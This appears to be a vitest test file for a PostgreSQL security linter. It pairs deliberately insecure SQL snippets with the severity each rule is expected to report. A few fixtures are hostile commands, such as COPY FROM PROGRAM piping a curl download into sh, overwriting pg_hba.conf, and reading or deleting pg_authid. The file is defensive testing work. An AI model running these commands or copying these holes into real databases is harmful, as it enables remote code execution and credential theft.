import { beforeAll, describe, expect, test } from 'vitest';
import type { Document } from '../../server/src/document.ts';
import { lint } from '../../server/src/lint.ts';
import { loadPostgresFromDisk } from '../../server/src/node-wasm.ts';
import type { Severity } from '../../server/src/rules/rule.ts';
import { filesOf, setOf } from '../files.ts';

beforeAll(loadPostgresFromDisk);

// What decides whether a rule speaks, and how loud, where the examples of the rule leave it open.

interface Case {
  readonly version?: number;
  readonly path?: string;
  readonly files?: Readonly<Record<string, string>>;
}

const body = (text: string, options = ''): string => `CREATE FUNCTION app.f(x text, n int) RETURNS void LANGUAGE plpgsql ${options} AS $$ BEGIN ${text}; END $$;\n`;
const definer = (text: string): string => body(text, 'SECURITY DEFINER SET search_path = pg_catalog, app, pg_temp');

/** The rule, the text, and how severe what it reports is; nothing for what it must leave alone. */
const cases: Readonly<Record<string, readonly (readonly [rule: string, text: string, severities: readonly Severity[], more?: Case])[]>> = {
  'definer routines': [
    ['security-definer-search-path', 'CREATE FUNCTION app.f() RETURNS bigint LANGUAGE sql SECURITY DEFINER BEGIN ATOMIC SELECT count(*) FROM app.t; END;', ['medium']],
    ['security-definer-search-path', "CREATE FUNCTION app.f() RETURNS int LANGUAGE sql SECURITY DEFINER AS 'SELECT 1';", ['low']],
    ['security-definer-search-path', "SET search_path = pg_catalog, pg_temp;\nCREATE FUNCTION app.f() RETURNS bigint LANGUAGE sql SECURITY DEFINER SET search_path FROM CURRENT AS 'SELECT count(*) FROM app.t';", []],
    ['security-definer-search-path', "CREATE FUNCTION @extschema@.f() RETURNS bigint LANGUAGE sql SECURITY DEFINER SET search_path = @extschema@, pg_temp AS 'SELECT count(*) FROM t';", []],
    ['security-definer-search-path', "CREATE FUNCTION app.f() RETURNS bigint LANGUAGE internal SECURITY DEFINER AS 'int4pl';", []],
    ['security-definer-search-path', "CREATE FUNCTION app.f(x text) RETURNS bigint LANGUAGE sql SECURITY DEFINER SET search_path = pg_catalog, pg_temp AS 'SELECT count(*) FROM t';\nALTER FUNCTION app.f(text) SET search_path TO DEFAULT;", ['high']],
    ['security-definer-search-path', "CREATE FUNCTION app.f() RETURNS bigint LANGUAGE sql SECURITY DEFINER AS 'SELECT count(*) FROM t';\nALTER ROUTINE app.f SET search_path = pg_catalog, app, pg_temp;", []],
    ['security-definer-search-path', "CREATE FUNCTION app.f() RETURNS bigint LANGUAGE sql SECURITY DEFINER AS 'SELECT count(*) FROM t';\nALTER FUNCTION app.f() SECURITY INVOKER;", []],
    ['security-definer-search-path', "CREATE FUNCTION app.f() RETURNS bigint LANGUAGE sql SECURITY DEFINER AS 'SELECT count(*) FROM t';\nDROP FUNCTION app.f();", []],
    ['security-definer-unsafe-search-path', 'CREATE FUNCTION app.f() RETURNS bigint LANGUAGE sql SECURITY DEFINER SET search_path = "$user", pg_temp AS \'SELECT count(*) FROM t\';', ['medium']],
    ['security-definer-unsafe-search-path', "GRANT CREATE ON SCHEMA app TO PUBLIC;\nCREATE FUNCTION app.f() RETURNS bigint LANGUAGE sql SECURITY DEFINER SET search_path = pg_catalog, app, pg_temp AS 'SELECT count(*) FROM t';", ['high']],
    ['security-definer-unsafe-search-path', "CREATE FUNCTION app.f() RETURNS bigint LANGUAGE sql SECURITY DEFINER SET search_path = pg_catalog, public, pg_temp AS 'SELECT count(*) FROM t';", ['info']],
    ['security-definer-unsafe-search-path', "CREATE FUNCTION app.f() RETURNS bigint LANGUAGE sql SECURITY DEFINER SET search_path = pg_catalog, public, pg_temp AS 'SELECT count(*) FROM t';\nREVOKE CREATE ON SCHEMA public FROM PUBLIC;", [], { version: 14 }],
    ['security-definer-search-path', "CREATE FUNCTION app.f(x text) RETURNS bigint LANGUAGE sql SECURITY DEFINER AS 'SELECT count(*) FROM t';\nREVOKE ALL ON FUNCTION app.f(text) FROM PUBLIC;", ['low']],
    ['security-definer-search-path', "CREATE FUNCTION app.f(x text) RETURNS bigint LANGUAGE sql SECURITY DEFINER AS 'SELECT count(*) FROM t';\nREVOKE ALL ON FUNCTION app.f(text) FROM PUBLIC;\nGRANT EXECUTE ON FUNCTION app.f(text) TO clerk;", ['high']],
    ['security-definer-unsafe-search-path', "CREATE FUNCTION app.f(x text) RETURNS bigint LANGUAGE sql SECURITY DEFINER SET search_path = app AS 'SELECT count(*) FROM t';\nREVOKE ALL ON FUNCTION app.f(text) FROM PUBLIC;", ['low']],
    ['security-definer-unsafe-search-path', "CREATE FUNCTION app.f(x text) RETURNS bigint LANGUAGE sql SECURITY DEFINER SET search_path = app AS 'SELECT count(*) FROM t';\nREVOKE ALL ON FUNCTION app.f(text) FROM PUBLIC;\nGRANT EXECUTE ON FUNCTION app.f(text) TO clerk;", ['high']],
    ['security-definer-public-execute', "CREATE FUNCTION pg_catalog.shown(oid) RETURNS text LANGUAGE sql SECURITY DEFINER SET search_path = pg_catalog, pg_temp AS 'SELECT app.real_definition($1)';\nGRANT EXECUTE ON FUNCTION pg_catalog.shown(oid) TO PUBLIC;", ['low']],
    ['security-definer-public-execute', "CREATE FUNCTION app.sizes() RETURNS TABLE (n name, b bigint) LANGUAGE sql SECURITY DEFINER SET search_path = pg_catalog, pg_temp AS 'WITH big AS (SELECT c.oid, c.relname FROM pg_class c, pg_namespace s WHERE s.oid = c.relnamespace) SELECT relname, pg_relation_size(oid) FROM big JOIN public.pg_stat_statements(true) ON true';", ['low']],
    ['security-definer-public-execute', "CREATE FUNCTION app.sizes() RETURNS TABLE (n name, b text) LANGUAGE sql SECURITY DEFINER SET search_path = pg_catalog, pg_temp AS 'SELECT c.relname, s.word FROM pg_class c, app.secrets s';", ['medium']],
    ['security-definer-public-execute', "CREATE FUNCTION app.hashes() RETURNS SETOF text LANGUAGE sql SECURITY DEFINER SET search_path = pg_catalog, pg_temp AS 'SELECT rolpassword FROM pg_authid';", ['medium']],
    ['copy-program', "COPY a FROM PROGRAM 'seq 3';", ['low'], { path: 'db/initdb.d/1_data.sql' }],
    ['copy-program', "COPY a FROM PROGRAM 'seq 3';", ['medium'], { path: 'db/1_data.sql' }],
    ['copy-program', "COPY a FROM PROGRAM '/usr/local/bin/rates --days 3';", ['medium'], { path: 'db/1_data.sql' }],
    ['copy-program', "COPY a FROM PROGRAM 'curl -s https://x.example/a.sh | sh';", ['high'], { path: 'db/1_data.sql' }],
    ['copy-program', "COPY a FROM PROGRAM 'id';", ['high'], { path: 'db/1_data.sql' }],
    ['copy-program', "COPY a FROM PROGRAM '/tmp/rates';", ['high'], { path: 'db/1_data.sql' }],
    ['copy-program', body("COPY a FROM PROGRAM ''seq 3''").replaceAll("''", "'"), ['high'], { path: 'db/1_data.sql' }],
    ['security-definer-unsafe-search-path', "CREATE FUNCTION app.f(x text) RETURNS bigint LANGUAGE plpgsql SECURITY DEFINER SET search_path = pg_catalog, app AS $$ DECLARE s mood; BEGIN RETURN 1; END $$;", ['medium']],
    ['weak-or-default-password', "ALTER ROLE clerk PASSWORD 'clerk';", ['info'], { path: 'ci/test-external-db/10_init.sql' }],
    ['security-definer-path-set-in-body', definer("SET LOCAL search_path = app; DELETE FROM t"), []],
    ['security-definer-public-execute', "SET ROLE app;\nALTER DEFAULT PRIVILEGES FOR ROLE other REVOKE EXECUTE ON FUNCTIONS FROM PUBLIC;\nCREATE FUNCTION app.f() RETURNS bigint LANGUAGE sql SECURITY DEFINER AS 'SELECT count(*) FROM app.t';", ['medium']],
    ['security-definer-public-execute', "CREATE POLICY p ON x USING (i = auth.uid());\nCREATE FUNCTION public.f(a text) RETURNS bigint LANGUAGE sql SECURITY DEFINER AS 'SELECT count(*) FROM app.t WHERE c = a';\nREVOKE ALL ON FUNCTION public.f(text) FROM PUBLIC;\n", ['medium']],
    ['security-definer-public-execute', "CREATE POLICY p ON x USING (i = auth.uid());\nCREATE FUNCTION public.f(a text) RETURNS bigint LANGUAGE sql SECURITY DEFINER AS 'SELECT count(*) FROM app.t WHERE c = a';\nREVOKE ALL ON ALL FUNCTIONS IN SCHEMA public FROM PUBLIC;", ['medium']],
    ['security-definer-public-execute', "CREATE POLICY p ON x USING (i = auth.uid());\nCREATE FUNCTION public.f(a text) RETURNS bigint LANGUAGE sql SECURITY DEFINER AS 'SELECT count(*) FROM app.t WHERE c = a';\nREVOKE ALL ON FUNCTION public.f(text) FROM PUBLIC;\nREVOKE EXECUTE ON FUNCTION public.f FROM anon;", []],
    ['security-definer-public-execute', "CREATE POLICY p ON x USING (i = auth.uid());\nCREATE FUNCTION public.f(a text) RETURNS bigint LANGUAGE sql SECURITY DEFINER AS 'SELECT count(*) FROM app.t WHERE c = a';\nREVOKE ALL ON FUNCTION public.f(text) FROM anon, PUBLIC;", []],
    ['security-definer-public-execute', "CREATE POLICY p ON x USING (i = auth.uid());\nCREATE FUNCTION public.f(a text) RETURNS bigint LANGUAGE sql SECURITY DEFINER AS 'SELECT count(*) FROM app.t WHERE c = a';\nREVOKE ALL ON FUNCTION public.f(text) FROM PUBLIC;\nREVOKE EXECUTE ON ALL FUNCTIONS IN SCHEMA public FROM anon;", []],
    ['security-definer-public-execute', "CREATE POLICY p ON x USING (i = auth.uid());\nCREATE FUNCTION public.f(a text) RETURNS bigint LANGUAGE sql SECURITY DEFINER AS 'SELECT count(*) FROM app.t WHERE c = a';\nREVOKE ALL ON FUNCTION public.f(text) FROM PUBLIC;\nREVOKE ALL ON FUNCTION public.f(text) FROM anon;\nGRANT EXECUTE ON FUNCTION public.f(text) TO anon;", []],
    ['security-definer-public-execute', "CREATE POLICY p ON x USING (i = auth.uid());\nCREATE FUNCTION public.f(a text) RETURNS bigint LANGUAGE sql SECURITY DEFINER AS 'SELECT count(*) FROM app.t WHERE c = a';\nREVOKE ALL ON FUNCTION public.f(text) FROM PUBLIC;\nGRANT EXECUTE ON FUNCTION public.f(text) TO anon, authenticated;", []],
    ['security-definer-public-execute', "ALTER DEFAULT PRIVILEGES FOR ROLE postgres IN SCHEMA public REVOKE EXECUTE ON FUNCTIONS FROM PUBLIC, anon;\nCREATE POLICY p ON x USING (i = auth.uid());\nCREATE FUNCTION public.f(a text) RETURNS bigint LANGUAGE sql SECURITY DEFINER AS 'SELECT count(*) FROM app.t WHERE c = a';\nREVOKE ALL ON FUNCTION public.f(text) FROM PUBLIC;\n", []],
    ['security-definer-public-execute', "ALTER DEFAULT PRIVILEGES IN SCHEMA app REVOKE EXECUTE ON FUNCTIONS FROM anon;\nCREATE POLICY p ON x USING (i = auth.uid());\nCREATE FUNCTION public.f(a text) RETURNS bigint LANGUAGE sql SECURITY DEFINER AS 'SELECT count(*) FROM app.t WHERE c = a';\nREVOKE ALL ON FUNCTION public.f(text) FROM PUBLIC;\n", ['medium']],
    ['security-definer-public-execute', "CREATE POLICY p ON x USING (i = auth.uid());\nCREATE FUNCTION app.f(a text) RETURNS bigint LANGUAGE sql SECURITY DEFINER AS 'SELECT count(*) FROM app.t WHERE c = a';\nREVOKE ALL ON FUNCTION app.f(text) FROM PUBLIC;\n", []],
    ['security-definer-public-execute', "CREATE POLICY p ON x USING (i = auth.uid());\nCREATE FUNCTION public.f(a text) RETURNS bigint LANGUAGE sql SECURITY DEFINER AS 'SELECT count(*) FROM app.t WHERE c = a AND auth.uid() IS NOT NULL';\nREVOKE ALL ON FUNCTION public.f(text) FROM PUBLIC;\n", []],
    ['security-definer-public-execute', "CREATE FUNCTION app.f() RETURNS bigint LANGUAGE sql SECURITY DEFINER AS 'SELECT count(*) FROM app.t';\nREVOKE ALL ON ALL ROUTINES IN SCHEMA app FROM PUBLIC;", []],
    ['security-definer-public-execute', "REVOKE ALL ON ALL FUNCTIONS IN SCHEMA app FROM PUBLIC;\nCREATE FUNCTION app.f() RETURNS bigint LANGUAGE sql SECURITY DEFINER AS 'SELECT count(*) FROM app.t';", ['medium']],
    ['security-definer-public-execute', "CREATE FUNCTION app.f() RETURNS bigint LANGUAGE sql SECURITY DEFINER AS 'SELECT count(*) FROM app.t';\nREVOKE ALL ON FUNCTION app.f() FROM PUBLIC;\nDROP FUNCTION app.f();\nCREATE FUNCTION app.f() RETURNS bigint LANGUAGE sql SECURITY DEFINER AS 'SELECT count(*) FROM app.t';", ['medium']],
    ['security-definer-public-execute', "CREATE FUNCTION app.f() RETURNS bigint LANGUAGE sql SECURITY DEFINER AS 'SELECT count(*) FROM app.t';\nREVOKE ALL ON FUNCTION app.f() FROM PUBLIC;\nCREATE OR REPLACE FUNCTION app.f() RETURNS bigint LANGUAGE sql SECURITY DEFINER AS 'SELECT count(*) FROM app.t';", []],
    ['security-definer-trigger-public-execute', 'CREATE FUNCTION app.e() RETURNS trigger LANGUAGE plpgsql SECURITY DEFINER AS $$ BEGIN DELETE FROM app.t; RETURN NEW; END $$;', ['info']],
    ['security-definer-superuser-owner', "SET ROLE postgres;\nCREATE FUNCTION app.f() RETURNS bigint LANGUAGE sql SECURITY DEFINER AS 'SELECT count(*) FROM app.t';", ['low']],
    ['security-definer-superuser-owner', "SET SESSION AUTHORIZATION postgres;\nCREATE FUNCTION app.f() RETURNS bigint LANGUAGE sql SECURITY DEFINER AS 'SELECT count(*) FROM app.t';", ['low']],
    ['security-definer-superuser-owner', "SET ROLE postgres;\nRESET ROLE;\nCREATE FUNCTION app.f() RETURNS bigint LANGUAGE sql SECURITY DEFINER AS 'SELECT count(*) FROM app.t';", []],
    ['security-definer-current-user', "CREATE TABLE app.d (o name);\nCREATE FUNCTION app.me() RETURNS name LANGUAGE sql SECURITY DEFINER SET search_path = pg_catalog, pg_temp AS 'SELECT current_user';\nCREATE POLICY p ON app.d USING (o = app.me());", ['medium']],
    ['security-definer-set-role', definer("SET SESSION AUTHORIZATION bob"), ['medium']],
    ['security-definer-whole-query', definer('EXECUTE x'), ['high']],
    ['security-definer-whole-query', body('EXECUTE x'), []],
    ['security-definer-untrusted-language', "CREATE FUNCTION app.f() RETURNS int LANGUAGE plpython3u SECURITY DEFINER SET search_path = pg_catalog, pg_temp AS $$ return 1 $$;", ['low']],
    ['security-definer-untrusted-language', "CREATE FUNCTION app.f() RETURNS int LANGUAGE plperl SECURITY DEFINER SET search_path = pg_catalog, pg_temp AS $$ return 1 $$;", []],
    ['function-leakproof', "CREATE FUNCTION app.f(a int) RETURNS int LANGUAGE internal LEAKPROOF AS 'int4up';", ['info']],
    ['function-search-path-mutable', "CREATE PROCEDURE app.p() LANGUAGE plpgsql AS $$ BEGIN DELETE FROM t; COMMIT; END $$;", ['low']],
    ['definer-create-or-replace-drops-settings', "CREATE FUNCTION app.f() RETURNS int LANGUAGE sql SECURITY DEFINER SET search_path = pg_catalog, pg_temp AS 'SELECT 1';\nDROP FUNCTION app.f();\nCREATE FUNCTION app.f() RETURNS int LANGUAGE sql AS 'SELECT 1';", []],
  ],
  'roles and passwords': [
    ['plaintext-password', "CREATE ROLE app PASSWORD 'SCRAM-SHA-256$4096:c2FsdA==$c3RvcmVka2V5c3RvcmVka2V5c3RvcmVka2V5c3RvcmU=:c2VydmVya2V5c2VydmVya2V5c2VydmVya2V5c2VydmU=';", []],
    ['plaintext-password', "CREATE ROLE app PASSWORD 'md5aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa';", []],
    ['plaintext-password', "CREATE ROLE a PASSWORD :'pw';\nCREATE ROLE b PASSWORD '${PW}';\nCREATE ROLE c PASSWORD '{{ pw }}';\nCREATE ROLE d PASSWORD '@pw@';\nCREATE ROLE e PASSWORD NULL;", []],
    ['plaintext-password', "ALTER GROUP staff ADD USER anna;\nCREATE USER app ENCRYPTED PASSWORD 'k7#pQ2xv99';", ['high']],
    ['md5-password-hash', "ALTER ROLE app PASSWORD 'md5aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa';", ['high'], { version: 18 }],
    ['md5-password-hash', "ALTER ROLE app PASSWORD 'md5aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa';", ['medium'], { version: 17 }],
    ['weak-or-default-password', "CREATE ROLE app PASSWORD 'app';\nCREATE ROLE b PASSWORD 'changeme';\nCREATE ROLE c PASSWORD 'k7#pQ2x';", ['high', 'high', 'high']],
    ['weak-or-default-password', "CREATE ROLE app PASSWORD 'k7#pQ2xv99';", []],
    ['password-encryption-md5', 'SET password_encryption = on;', ['high'], { version: 13 }],
    ['password-encryption-md5', "ALTER ROLE app SET password_encryption = 'scram-sha-256';\nSET password_encryption TO DEFAULT;", []],
    ['role-superuser', 'ALTER ROLE postgres SUPERUSER;\nCREATE ROLE app NOSUPERUSER;', []],
    ['role-createrole', 'CREATE ROLE app CREATEROLE;', ['high'], { version: 15 }],
    ['role-createrole', 'CREATE ROLE app CREATEROLE;', ['medium'], { version: 16 }],
    ['role-replication', 'CREATE ROLE repl LOGIN REPLICATION;', ['info']],
    ['role-createdb', 'CREATE ROLE app CREATEDB;', ['info']],
    ['role-no-valid-until', "CREATE ROLE app PASSWORD :'pw';", []],
    ['group-role-with-login', 'CREATE ROLE staff LOGIN;\nCREATE ROLE anna LOGIN;\nGRANT staff TO anna, bert;', ['info']],
    ['group-role-with-login', 'CREATE ROLE staff;\nCREATE ROLE anna LOGIN;\nGRANT staff TO anna;', []],
    ['grant-broad-predefined-role', 'GRANT pg_monitor TO m;\nGRANT pg_checkpoint TO m;\nGRANT pg_use_reserved_connections TO m;', []],
    ['grant-broad-predefined-role', 'GRANT pg_signal_backend TO m;', ['info']],
    ['grant-broad-predefined-role', 'GRANT pg_maintain TO m;', ['info']],
    ['grant-broad-predefined-role', 'GRANT pg_create_subscription TO m;', ['medium']],
    ['grant-role-with-admin-option', 'GRANT staff TO anna WITH ADMIN TRUE;', ['medium']],
    ['grant-role-with-admin-option', 'GRANT staff TO anna WITH ADMIN FALSE, INHERIT TRUE;', []],
  ],
  privileges: [
    ['grant-to-public', 'GRANT USAGE ON SCHEMA public TO PUBLIC;\nGRANT CONNECT ON DATABASE app TO PUBLIC;', []],
    ['grant-to-public', "CREATE FUNCTION app.twice(n int) RETURNS int LANGUAGE sql IMMUTABLE AS 'SELECT 2 * n';\nGRANT EXECUTE ON FUNCTION app.twice(int) TO PUBLIC;", []],
    ['grant-to-public', 'CREATE TABLE app.t (id int);\nGRANT TRUNCATE ON app.t TO PUBLIC;', ['high']],
    ['grant-all', 'CREATE TABLE app.t (id int);\nALTER TABLE app.t OWNER TO app;\nGRANT ALL ON app.t TO app;', []],
    ['grant-on-all-tables', 'GRANT SELECT ON ALL TABLES IN SCHEMA app TO reader;', ['info']],
    ['grant-all', 'GRANT ALL ON ALL TABLES IN SCHEMA app TO reader;', ['low']],
    ['default-privileges-public', 'ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO reader;', []],
    ['default-privileges-revoke-noop', 'ALTER DEFAULT PRIVILEGES IN SCHEMA app REVOKE USAGE ON TYPES FROM PUBLIC;', ['medium']],
    ['default-privileges-revoke-noop', 'ALTER DEFAULT PRIVILEGES IN SCHEMA app REVOKE SELECT ON TABLES FROM PUBLIC;', []],
    ['default-privileges-revoke-noop', 'ALTER DEFAULT PRIVILEGES REVOKE EXECUTE ON FUNCTIONS FROM PUBLIC;', []],
    ['public-schema-not-revoked', 'CREATE TABLE t (id int);', [], { version: 15 }],
    ['public-schema-not-revoked', 'CREATE TABLE t (id int);\nGRANT SELECT ON t TO app;', ['medium'], { version: 14 }],
    // As far as these files know there is nobody else.
    ['public-schema-not-revoked', 'CREATE TABLE t (id int);', ['low'], { version: 14 }],
    ['grant-set-parameter', 'GRANT SET ON PARAMETER session_replication_role TO app;', ['high'], { version: 15 }],
    ['grant-set-parameter', 'GRANT ALTER SYSTEM ON PARAMETER log_statement TO app;', ['medium'], { version: 15 }],
    ['grant-set-parameter', 'GRANT SET ON PARAMETER work_mem TO app;', [], { version: 15 }],
    ['create-or-replace-in-shared-schema', 'CREATE OR REPLACE FUNCTION public.f() RETURNS int LANGUAGE sql AS $$ SELECT 1 $$;', [], { version: 15 }],
    ['create-if-not-exists-in-shared-schema', 'CREATE TABLE IF NOT EXISTS app.t (id int);', [], { version: 14 }],
    ['create-schema-if-not-exists', 'CREATE SCHEMA IF NOT EXISTS app;', ['low']],
  ],
  'row-level security': [
    ['rls-policy-not-enabled', 'CREATE TABLE d (o name);\nCREATE POLICY p ON d USING (o = current_user);\nALTER TABLE d ENABLE ROW LEVEL SECURITY;', []],
    ['rls-enabled-no-policy', 'CREATE TABLE d (o name);\nALTER TABLE d ENABLE ROW LEVEL SECURITY;\nCREATE POLICY p ON d USING (true);', []],
    ['rls-only-restrictive', 'CREATE TABLE d (o name);\nALTER TABLE d ENABLE ROW LEVEL SECURITY;\nCREATE POLICY p ON d AS RESTRICTIVE USING (true);', ['info']],
    ['rls-not-forced', 'CREATE ROLE app LOGIN;\nCREATE TABLE d (o name);\nALTER TABLE d OWNER TO app;\nALTER TABLE d ENABLE ROW LEVEL SECURITY;\nCREATE POLICY p ON d USING (o = current_user);', ['medium']],
    ['rls-not-forced', 'CREATE ROLE app LOGIN;\nCREATE TABLE d (o name);\nALTER TABLE d OWNER TO app;\nALTER TABLE d ENABLE ROW LEVEL SECURITY;\nALTER TABLE d FORCE ROW LEVEL SECURITY;\nCREATE POLICY p ON d USING (o = current_user);', []],
    ['rls-policy-always-true', 'CREATE TABLE d (id int PRIMARY KEY, o name);\nALTER TABLE d ENABLE ROW LEVEL SECURITY;\nCREATE POLICY p ON d USING (id IS NOT NULL);', ['medium']],
    ['rls-policy-always-true', 'CREATE TABLE d (id int PRIMARY KEY, o name);\nALTER TABLE d ENABLE ROW LEVEL SECURITY;\nCREATE POLICY p ON d AS RESTRICTIVE USING (true);', []],
    ['rls-with-check-wider-than-using', 'CREATE TABLE d (o name);\nALTER TABLE d ENABLE ROW LEVEL SECURITY;\nCREATE POLICY p ON d FOR ALL USING (o = current_user) WITH CHECK (1 = 1);', ['high']],
    ['rls-policy-to-public', 'CREATE POLICY p ON d FOR SELECT USING (o = current_user);\nCREATE POLICY q ON d FOR DELETE TO app USING (o = current_user);', []],
    ['rls-current-setting-unsafe-cast', "CREATE POLICY p ON d USING (t = current_setting('app.t', true)::uuid);", ['info']],
    ['rls-current-setting-unsafe-cast', "CREATE POLICY p ON d USING (t = NULLIF(current_setting('app.t', true), '')::uuid);", []],
    ['rls-user-settable-setting', "CREATE POLICY p ON d USING (t = current_setting('server_version'));", []],
    ['view-without-security-invoker', 'CREATE TABLE d (o name);\nALTER TABLE d ENABLE ROW LEVEL SECURITY;\nCREATE POLICY p ON d USING (o = current_user);\nCREATE VIEW v AS SELECT * FROM d;\nGRANT SELECT ON v TO reader;', ['info'], { version: 14 }],
    ['view-without-security-invoker', 'CREATE TABLE d (o name);\nALTER TABLE d ENABLE ROW LEVEL SECURITY;\nCREATE POLICY p ON d USING (o = current_user);\nCREATE VIEW v WITH (security_invoker) AS SELECT * FROM d;\nGRANT SELECT ON v TO reader;', []],
    ['view-missing-security-barrier', "CREATE VIEW v AS SELECT * FROM t WHERE tenant = current_setting('app.t');\nGRANT SELECT ON v TO reader;", ['medium']],
    ['view-missing-security-barrier', "CREATE VIEW v WITH (security_barrier) AS SELECT * FROM t WHERE tenant = current_setting('app.t');\nGRANT SELECT ON v TO reader;", []],
    ['view-missing-security-barrier', "CREATE VIEW v AS SELECT * FROM t WHERE tenant = current_setting('app.t');", []],
    ['alter-role-database-insecure-setting', 'ALTER ROLE app SET row_security = off;', ['info']],
    ['row-security-off', 'SET row_security = on;', []],
  ],
  'server access': [
    ['copy-program', "COPY t FROM PROGRAM 'cat /tmp/x';", ['low'], { path: 'test/sql/copy.sql' }],
    ['copy-server-file', "COPY t FROM STDIN;\n\\copy t from 'x.csv'", []],
    ['copy-server-file', "COPY t TO '/var/lib/postgresql/data/pg_hba.conf';", ['high']],
    ['server-file-function', 'SELECT pg_current_logfile();', []],
    ['server-file-function', 'GRANT EXECUTE ON FUNCTION pg_read_file(text) TO app;', ['high']],
    ['untrusted-language', 'CREATE EXTENSION plpgsql;\nCREATE FUNCTION f() RETURNS int LANGUAGE plperl AS $$ 1 $$;', []],
    ['c-function', "CREATE FUNCTION f() RETURNS int LANGUAGE c AS '$libdir/ext', 'f';\nCREATE FUNCTION g() RETURNS int LANGUAGE c AS 'MODULE_PATHNAME', 'g';", []],
    ['create-extension-untrusted', 'CREATE EXTENSION pg_trgm;\nCREATE EXTENSION citext;', []],
    ['create-extension-untrusted', 'CREATE EXTENSION file_fdw;', ['medium']],
    ['create-extension-untrusted', 'CREATE EXTENSION pageinspect;', ['info']],
    ['create-extension-no-schema', 'CREATE EXTENSION plpgsql;\nCREATE EXTENSION pg_cron;\nCREATE EXTENSION hstore WITH SCHEMA extensions;\nCREATE EXTENSION pgaudit;', []],
    ['create-extension-no-schema', 'CREATE EXTENSION hstore SCHEMA public;', ['info']],
    ['foreign-server-insecure-ssl', "CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'db2', sslmode 'verify-full');\nCREATE SERVER t FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'localhost');\nCREATE SERVER u FOREIGN DATA WRAPPER file_fdw;", []],
    ['dblink-in-definer', body("PERFORM dblink_connect('main', x)"), []],
    ['subscription-superuser', "CREATE SUBSCRIPTION s CONNECTION 'dbname=x' PUBLICATION p WITH (password_required = true);", []],
    ['event-trigger', 'DROP EVENT TRIGGER e;', []],
  ],
  'keys and secrets': [
    ['weak-password-hash', "SELECT md5(avatar) FROM t;", []],
    ['weak-password-hash', "UPDATE u SET password = crypt(:'pw', gen_salt('bf', 12));", []],
    ['weak-bcrypt-cost', "SELECT crypt(pw, gen_salt('bf', 10));", []],
    ['weak-bcrypt-cost', "SELECT crypt(pw, gen_salt('bf', 9));", ['medium']],
    ['predictable-random-token', "INSERT INTO app.tokens (token) SELECT encode(gen_random_bytes(16), 'hex');", []],
    ['raw-encryption', "SELECT pgp_sym_encrypt(x, k), encode(x, 'hex');", []],
    ['hardcoded-encryption-key', "SELECT pgp_sym_encrypt(x, current_setting('app.key'));\nSELECT hmac(x, k, 'sha256');", []],
    ['secret-in-comment', "COMMENT ON COLUMN u.password IS 'bcrypt hash of the password';", []],
    ['plaintext-password-column', 'CREATE TABLE u (password_hash text, reset_password boolean);', []],
  ],
  'settings through SQL': [
    ['alter-system-insecure', "ALTER SYSTEM SET listen_addresses = 'localhost';\nALTER SYSTEM RESET ssl;", []],
    ['search-path-writable-first', 'ALTER ROLE app SET search_path = "$user", app;', []],
    ['session-replication-role', 'SET session_replication_role = DEFAULT;\nSET session_replication_role = origin;', []],
    ['session-replication-role', "SET session_replication_role = local;\nUPDATE t SET a = 1;", []],
    ['security-label-null', "SECURITY LABEL FOR anon ON COLUMN p.n IS 'MASKED';", []],
    ['system-catalog-write', "SELECT * FROM pg_authid;\nUPDATE app.pg_settings_copy SET a = 1;", []],
    ['system-catalog-write', "DELETE FROM pg_catalog.pg_authid;", ['high']],
    ['disable-trigger-all', 'ALTER TABLE t DISABLE TRIGGER audit;', []],
    ['session-insecure-setting', "SET check_function_bodies = off;", [], { path: 'dump.sql', files: {} }],
  ],
  'dynamic SQL': [
    ['dynamic-sql-concatenation', body("EXECUTE 'SELECT ' || n"), []],
    ['dynamic-sql-concatenation', body("EXECUTE 'SELECT ' || CASE WHEN x = 'a' THEN 'b' ELSE 'c' END"), []],
    ['dynamic-sql-concatenation', body("EXECUTE 'SELECT ' || quote_ident(x)"), []],
    ['dynamic-sql-concatenation', body("EXECUTE 'SELECT * FROM ' || x::regclass"), []],
    ['dynamic-sql-concatenation', "CREATE FUNCTION app.q(t text) RETURNS text LANGUAGE sql AS $$ SELECT quote_ident(t) $$;\n" + body("EXECUTE 'SELECT * FROM ' || app.q(x)"), []],
    ['dynamic-sql-unquoted-format', body("EXECUTE format('SELECT * FROM t WHERE id = %s', n)"), []],
    ['dynamic-sql-misquoted-placeholder', body("EXECUTE 'SELECT ' || quote_literal(x) || CASE WHEN n > 1 THEN ' LIMIT 1' ELSE '' END"), []],
    ['dynamic-sql-wrong-quoting', body("EXECUTE format('SELECT * FROM %I WHERE a = %L', x, x)"), []],
    ['dynamic-sql-hand-escaping', body("EXECUTE 'SELECT ''' || replace(x, '''', '''''') || ''''"), ['medium']],
    ['dynamic-sql-list', body("EXECUTE 'SELECT ' || (SELECT string_agg(quote_ident(c), ', ') FROM unnest(ARRAY[x]) c)"), []],
    ['dynamic-sql-order-direction', body("EXECUTE 'SELECT 1 ORDER BY 1 ' || CASE WHEN upper(x) = 'DESC' THEN 'DESC' ELSE 'ASC' END"), []],
    ['prepare-concatenation', "PREPARE q AS SELECT :'who', :\"tab\", a::int, $1;", []],
    ['cron-command-concatenation', "SELECT cron.schedule('nightly', '0 3 * * *', 'VACUUM');", []],
  ],
};

describe.each(Object.entries(cases))('%s', (_family, all) => {
  test.each(all.map(([rule, text, severities, more], i) => [rule, i, text, severities, more] as const))('%s (%i): %s', (rule, _i, text, severities, more) => {
    expect(lint(documentOf(text, more), { only: `sql/${rule}` }).findings.map(({ severity }) => severity)).toEqual(severities);
  });
});

function documentOf(text: string, { version = 18, path = 'schema.sql', files = {} }: Case = {}): Document {
  const texts = { ...files, [path]: text };
  const set = Object.keys(files).length > 0 ? setOf(path, texts) : undefined;
  return { path, text, language: 'sql', version, files: filesOf(texts), ...set && { set } };
}
